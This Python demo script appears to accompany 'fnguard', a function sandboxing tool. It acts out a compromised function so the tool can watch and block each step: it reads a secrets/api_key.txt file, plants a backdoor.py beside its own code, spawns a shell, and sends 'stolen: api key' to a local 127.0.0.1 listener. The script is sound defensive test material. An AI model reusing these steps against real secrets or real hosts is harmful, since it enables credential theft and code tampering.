"""A small function with the habits an attacker would love to exploit.

It does four things a compromised function typically does: reads a secret
that belongs to the deployment, writes files (in /tmp, which is fine, and
over its own code, which is not), spawns a shell, and connects out to a
server (a listener the demo started on 127.0.0.1: no traffic leaves the
machine). Run it under `fnguard run` (see run.sh) to watch, then block, each
of them.
"""
import os
import socket
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))


def step(name, action):
    try:
        print("  %-34s %s" % (name, action()))
    except OSError as e:
        print("  %-34s failed: %s" % (name, e.strerror or e))


def read_secret():
    with open(os.path.join(HERE, "secrets", "api_key.txt")) as f:
        return "read it: " + f.read().strip()[:12] + "..."


def write_tmp():
    os.makedirs("/tmp/fnguard-demo", exist_ok=True)
    with open("/tmp/fnguard-demo/report.txt", "w") as f:
        f.write("report\n")
    return "wrote /tmp/fnguard-demo/report.txt"


def tamper_with_code():
    with open(os.path.join(HERE, "backdoor.py"), "w") as f:
        f.write("# planted\n")
    return "wrote backdoor.py next to the code"


def spawn_shell():
    out = subprocess.run(["/bin/sh", "-c", "echo shell ran as $(id -un)"],
                         capture_output=True, text=True, check=True)
    return out.stdout.strip()


def connect_out(port):
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(b"stolen: api key\n")
    return "sent data to 127.0.0.1:%d" % port


def main():
    port = int(sys.argv[1])
    step("read secrets/api_key.txt", read_secret)
    step("write /tmp", write_tmp)
    step("write over the function's code", tamper_with_code)
    step("spawn a shell", spawn_shell)
    step("connect out", lambda: connect_out(port))


if __name__ == "__main__":
    main()
